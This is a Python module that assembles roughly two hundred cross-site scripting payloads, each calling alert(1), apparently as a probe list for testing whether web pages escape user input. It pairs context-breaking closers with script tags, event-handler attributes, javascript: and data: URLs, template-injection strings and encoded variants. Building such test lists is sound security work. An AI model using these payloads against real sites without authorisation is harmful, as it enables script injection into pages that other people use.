"""Two hundred texts that become a script wherever a page takes text for markup; each calls alert(1)."""

from itertools import product

CLOSERS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</option></select>", "</td></table>",
    "]]>",
)  # fmt: skip
"""What ends the place a text stands in."""

BODIES = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<video><source onerror=alert(1)></video>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>", "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<style>@keyframes q{}</style><p style=animation-name:q onanimationstart=alert(1)>",
    "<audio src=x onerror=alert(1)></audio>",
)  # fmt: skip
"""What runs by itself, once it is markup."""

EVENTS = {
    "onfocus": "autofocus", "onerror": "src=x", "onload": "", "onanimationstart": "style=animation:q",
    "onpointerenter": "", "onbeforetoggle": "popover", "onclick": "", "ontoggle": "open",
}  # fmt: skip
IN_TAGS = tuple(
    f"{mark} {event}=alert(1) {rest} {mark and f'x={mark}'}"
    for mark, (event, rest) in product(('"', "'", ""), EVENTS.items())
)
"""What becomes an attribute of the tag it stands in."""

OTHERS = (
    "javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "#{alert(1)}", "{%print(1)%}{{7*7}}<script>alert(1)</script>", "';alert(1)//", '";alert(1)//',
    "`;alert(1)//", "\\';alert(1)//", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
)  # fmt: skip
"""What runs where a text is put into an address, a script or a template, or is undone once too often."""

MARKUP = (*map("".join, product(CLOSERS, BODIES)), *IN_TAGS, *OTHERS)


SHARPEST = tuple(
    f"{closer}<img src=x onerror=alert(1)>" for closer in ('">', "", "</title>", "</textarea>", "'>")
)
"""One for each place a page puts a text: in any sample, however small."""


def some(count: int) -> tuple[str, ...]:
    """Choose the sharpest, then evenly, of every kind some."""
    spread = (MARKUP[place * len(MARKUP) // count] for place in range(count))
    return tuple(dict.fromkeys((*SHARPEST, *spread, *MARKUP)))[:count]
